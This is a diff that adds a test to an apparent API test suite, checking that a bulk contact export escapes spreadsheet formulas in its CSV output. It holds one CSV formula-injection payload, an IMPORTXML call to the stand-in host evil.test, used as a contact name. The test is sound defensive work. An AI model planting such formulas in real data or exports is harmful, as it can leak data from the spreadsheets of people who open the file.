@@ -298,6 +298,25 @@ describe('POST /search/v2/bulk', () => {
     ).toBe(404);
   });
 
+  it("neutralises formula cells in an export's CSV, as the contact export does", async () => {
+    const person = (
+      await owner.post(`/api/v1/teams/${teamUID}/contacts`, {
+        name: '=IMPORTXML("http://evil.test","//a")',
+        phoneNumber: '+1 555 010 7777',
+      })
+    ).body.data;
+    const started = await owner.post('/search/v2/bulk', {
+      teamUID,
+      action: { type: 'export' },
+      target: { GTIDs: [person.GTID] },
+    });
+    await waitForJob(started.body.data.jobId);
+    const csv = await owner.get(`/api/v1/teams/${teamUID}/bulk-jobs/${started.body.data.jobId}/export.csv`);
+    const [header, row] = parseCsv(csv.body as string);
+    expect(row![header!.indexOf('Full Name')]).toBe('\'=IMPORTXML("http://evil.test","//a")');
+    expect(row![header!.indexOf('Phone')]).toBe("'+15550107777");
+  });
+
   it('limits a member to contacts they may see and refuses them deletes', async () => {
     const hidden = (
       await owner.post(`/api/v1/teams/${teamUID}/pipelines`, { nickName: 'Hidden', stages: [{ name: 'H' }] })
